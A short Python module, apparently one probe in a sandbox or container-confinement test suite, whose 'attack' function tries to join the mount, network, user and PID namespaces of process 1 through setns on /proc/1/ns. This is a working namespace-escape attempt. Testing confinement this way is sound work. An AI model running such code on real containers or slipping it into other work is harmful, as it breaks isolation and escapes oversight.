"""Enter the namespaces of the first process."""

import ctypes
import os

WORKS_UNCONFINED = False


def attack(bait):
    libc = ctypes.CDLL(None)
    found = []
    for name in ("mnt", "net", "user", "pid"):
        try:
            number = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(number, 0) == 0:
            found.append(name)
    return found
